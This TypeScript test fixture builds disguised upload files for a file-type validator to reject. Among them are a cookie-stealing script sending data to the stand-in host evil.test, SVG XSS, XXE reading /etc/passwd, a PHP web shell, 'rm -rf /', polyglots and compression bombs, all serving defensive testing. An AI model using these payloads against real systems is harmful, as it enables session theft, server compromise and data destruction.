import { deflateRawSync, gzipSync } from 'node:zlib'
import { type HostileFile, noise } from './hostile-file.ts'

/** Files of types that are not accepted, under names that are. */
export function foreignFiles(): HostileFile[] {
	const names = ['license.jpg', 'license.png', 'license.pdf', 'photo.jpeg']
	return Object.entries(kinds()).map(([what, bytes], index) => ({
		what,
		name: names[index % names.length]!,
		bytes: () => bytes,
		fate: 'rejected',
	}))
}

const script = '<script>fetch("https://evil.test/?"+document.cookie)</script>'

function kinds(): Record<string, Buffer> {
	const text = (content: string) => Buffer.from(content)
	const head = (hex: string, rest = noise(400)) => Buffer.concat([Buffer.from(hex, 'hex'), rest])
	/** The first box of the format family of MP4, HEIC and AVIF. */
	const brand = (name: string) =>
		Buffer.concat([Buffer.from([0, 0, 0, 24]), text(`ftyp${name}\0\0\0\0mif1${name}`), noise(400)])
	const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`
	return {
		'an SVG with a script': text(svg),
		'an SVG behind an XML declaration': text(`<?xml version="1.0"?>\n${svg}`),
		'an SVG, compressed': gzipSync(svg),
		'an SVG that asks for a file of the server': text(
			'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
		),
		'XML with an entity of a file': text('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
		'XML with a billion laughs': text(
			'<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]><a>&c;</a>',
		),
		'a page': text(`<!doctype html>${script}`),
		'a page after blanks': text(`\n\n   <html>${script}</html>`),
		'a page in UTF-16': Buffer.from(`\ufeff<html>${script}</html>`, 'utf16le'),
		'a web archive': text(`MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n${script}`),
		PHP: text('<?php system($_GET["c"]); ?>'),
		JSP: text('<%@ page import="java.io.*" %><% Runtime.getRuntime().exec("id"); %>'),
		'a shell script': text('#!/bin/sh\nrm -rf /\n'),
		'a Windows program': head('4d5a9000'),
		'a Linux program': head('7f454c46020101'),
		'a macOS program': head('cffaedfe07000001'),
		'a Java class': head('cafebabe00000034'),
		WebAssembly: head('0061736d01000000'),
		Flash: head('46575309'),
		'a Windows shortcut': head('4c0000000114020000000000c000000000000046'),
		'a ZIP archive': head('504b0304'),
		'a ZIP bomb': zipOf('bomb', deflateRawSync(Buffer.alloc(8_000_000))),
		'a Word document': zipOf('word/document.xml', deflateRawSync(text('<w:document/>'))),
		'an old Word document with macros': head('d0cf11e0a1b11ae1'),
		'RTF with an object': text('{\\rtf1{\\object\\objdata 0105}}'),
		RAR: head('526172211a0700'),
		'7z': head('377abcaf271c'),
		'a gzip bomb': gzipSync(Buffer.alloc(8_000_000)),
		PostScript: text('%!PS-Adobe-3.0\n(/etc/passwd) (r) file'),
		'PostScript that calls itself a PDF': text('%!PS-Adobe-3.0 PDF-1.4\n'),
		GIF: head('474946383961'),
		'a GIF that is a script as well': text('GIF89a/*\x01\x00*/=1;alert(1)//'),
		BMP: head('424d'),
		TIFF: head('49492a00'),
		'a raw picture (DNG)': head('4d4d002a'),
		WebP: Buffer.concat([text('RIFF\x90\x01\x00\x00WEBPVP8 '), noise(400)]),
		HEIC: brand('heic'),
		AVIF: brand('avif'),
		MP4: brand('isom'),
		'JPEG 2000': head('0000000c6a5020200d0a870a'),
		'JPEG XL': head('ff0a'),
		'an icon': head('00000100'),
		Photoshop: head('38425053'),
		SQLite: text('SQLite format 3\0'),
		text: text('Please approve me.'),
		nothing: Buffer.alloc(0),
		'one byte': Buffer.from([0xff]),
		zeros: Buffer.alloc(100_000),
		noise: noise(100_000),
	}
}

/** A ZIP archive of one entry. */
export function zipOf(name: string, deflated: Buffer): Buffer {
	const entry = Buffer.alloc(30)
	entry.write('PK\x03\x04', 'latin1')
	entry.writeUInt16LE(20, 4)
	entry.writeUInt16LE(8, 8)
	entry.writeUInt32LE(deflated.length, 18)
	entry.writeUInt16LE(name.length, 26)
	const directory = Buffer.alloc(46)
	directory.write('PK\x01\x02', 'latin1')
	directory.writeUInt16LE(8, 10)
	directory.writeUInt32LE(deflated.length, 20)
	directory.writeUInt16LE(name.length, 28)
	const end = Buffer.alloc(22)
	end.write('PK\x05\x06', 'latin1')
	end.writeUInt16LE(1, 8)
	end.writeUInt16LE(1, 10)
	end.writeUInt32LE(46 + name.length, 12)
	end.writeUInt32LE(30 + name.length + deflated.length, 16)
	return Buffer.concat([entry, Buffer.from(name), deflated, directory, Buffer.from(name), end])
}
